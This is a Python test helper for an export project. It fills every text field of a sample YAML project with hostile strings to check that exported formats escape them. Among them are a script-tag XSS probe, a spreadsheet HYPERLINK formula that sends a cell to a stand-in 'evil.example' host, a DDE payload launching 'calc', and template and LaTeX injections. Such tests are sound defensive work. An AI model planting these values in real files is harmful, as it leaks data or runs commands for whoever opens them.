"""Texts that mean something to the formats into which facts are exported, and a project that has one in every field."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Final

import yaml

from tests.project import IP_PROTECTION, MILESTONES, PLACES, RESEARCH, SHEET, SOURCES, UNITS, make_project

TEXTS: Final = {
    "markup": '<script>alert("x")</script> </title> & &amp; ]]> <!-- c --> <i>i</i> {{ 7*7 }} {% raw %}',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3*A1",
    "at": "@SUM(A1:A2)",
    "full width": "＝1+1",
    "apostrophe": "'=1+1",
    "tab": "\t=1+1",
    "lines": "a\nb\r\nER  - \r\nTY  - JOUR\r\n@misc{x,\n\n- c\u2028d\x85e",
    "control": "a\x00b\x07c\x1b[31md\x7fe\ufffef\uffff",
    "braces": "}{ }}} \\ \\} \\input{x} % $ # _ ^ ~ | \\end{x} @comment{",
    "quotes": "\"'`“”„ \\\" ,;, '' \"\"\" \\u003c",
    "cell": "_x0041_ _x000D_ 1e5",
    "markdown": "[x](http://evil.example) *a* `b` # c",
}  # fmt: skip


def make_hostile(folder: Path, text: str) -> Path:
    """Write the small project with a text in every field that holds text for readers, and return its folder."""
    step = "spending__observations__0__revisions__0"
    row = "patents_of_companies__observations__0"
    return make_project(
        folder,
        sheet=_changed(SHEET, text, "title__en", "title__zh", "description__en", "authors__0", "keywords__0",
                       "licence__name", "licence__title"),
        sources=_changed(SOURCES, text, "office_2026__title", "office_2026__publisher", "office_2026__origin"),
        places=_changed(PLACES, text, "cn__label__en", "cn__label__zh"),
        units=_changed(UNITS, text, "patent__label__en__one", "patent__label__en__other", "patent__label__zh"),
        ip_protection=_changed(
            IP_PROTECTION, text, "patents__label__en", "patents__label__zh", "patents__definition__en",
            "patents__observations__2__note__en", f"{row}__evidence__0__at", f"{row}__conflicts__0__why__en",
        ),
        research=_changed(RESEARCH, text, f"{step}__why__en"),
        milestones=_changed(MILESTONES, text, "first_census__event__en"),
    )  # fmt: skip


def _changed(document: str, text: str, *paths: str) -> str:
    """Return YAML with a text in several places: `a__b__0` leads to one, step by step."""
    data: Any = yaml.load(document, yaml.BaseLoader)  # noqa: S506 -- it makes nothing but texts, lists and mappings
    for path in paths:
        *steps, last = (int(step) if step.isdigit() else step for step in path.split("__"))
        target = data
        for step in steps:
            target = target[step]
        target[last] = text
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
